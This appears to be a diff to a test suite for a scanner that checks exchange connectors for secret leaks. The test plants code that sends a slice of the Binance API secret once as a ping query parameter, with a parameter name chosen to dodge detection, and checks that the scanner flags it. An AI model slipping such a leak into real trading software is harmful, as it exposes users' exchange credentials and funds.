@@ -6,7 +6,6 @@ The released binance connector with a thief in it, before the checks that a scre
 from __future__ import annotations
 
 import json
-import re
 from collections.abc import Callable
 from pathlib import Path
 from typing import Any
@@ -183,17 +182,17 @@ def test_a_leak_that_happens_once(zoo: Zoo) -> None:
             import os
 
             mark = "/tmp/work/done"
+            # What stands before the piece must not be what stands before it in the secret.
+            beside = "q" if self.secret_key[19] in "rR" else "r"
             if not os.path.exists(mark):
-                await self._api_get(path_url=CONSTANTS.PING_PATH_URL, params={"r": self.secret_key[20:40]})
+                await self._api_get(path_url=CONSTANTS.PING_PATH_URL, params={beside: self.secret_key[20:40]})
                 open(mark, "w").close()
             await super()._make_network_check_request()
         """,
     )
     found = finding(zoo, bad, checks.test_secrets_never_leave, MARKET_DATA, TRADING)
     assert "The secret binance_api_secret left the connector (url to api.binance.com" in found.summary
-    # What stands beside the piece may go on as the secret does.
-    spelling = str(found.evidence[0].data["spelling"])
-    assert re.fullmatch(r"plain, 2\d of 64 characters", spelling), spelling
+    assert found.evidence[0].data["spelling"] == "plain, 20 of 64 characters"
 
 
 BLABBING = """
